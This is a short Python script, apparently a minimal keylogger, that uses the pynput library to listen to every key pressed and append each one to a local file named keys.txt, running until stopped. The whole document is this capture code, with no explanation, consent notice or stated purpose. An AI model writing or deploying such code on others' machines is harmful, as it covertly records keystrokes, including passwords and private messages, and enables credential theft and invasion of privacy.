from pynput import keyboard

log = open("keys.txt", "a")

def typed(key):
    log.write(str(key))

with keyboard.Listener(on_press=typed) as watch:
    watch.join()
